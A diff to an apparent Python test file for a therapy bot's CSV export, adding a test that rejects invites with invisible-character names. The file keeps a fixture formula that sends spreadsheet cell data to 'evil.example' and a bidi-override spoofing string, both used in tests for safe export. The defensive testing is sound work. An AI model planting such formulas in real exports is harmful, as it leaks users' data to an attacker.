@@ -14,9 +14,11 @@ from hypothesis import strategies as st
 from sqlalchemy import select
 
 from bot.export import CSV_COLUMNS, FORMULA_STARTS, spreadsheet_safe, to_csv
-from storage.models import Answer
+from flows.i18n import t
+from storage.models import Answer, Client
 from tests.e2e.harness import World, join_client
 from tests.e2e.test_privacy import answer_checkin, cli
+from tests.e2e.test_therapist import command
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
 SPOOFED = "I feel \u202eyawa gniog\u202c better\u200b now\ufeff"
@@ -94,3 +96,11 @@ def test_no_exported_cell_starts_like_a_formula(alias: str, text: str, item: str
     for row in rows[1:]:
         for cell in row:
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+async def test_a_therapist_cannot_invite_an_invisible_name(world: World) -> None:
+    dana = await world.join_therapist("Dana Lee")
+    reply = await command(world, dana, "/invite \u200b\u202e\u2066")
+    assert reply == t("en", "staff.invite_usage")
+    async with world.rt.sessions() as s:
+        assert (await s.scalars(select(Client))).all() == []
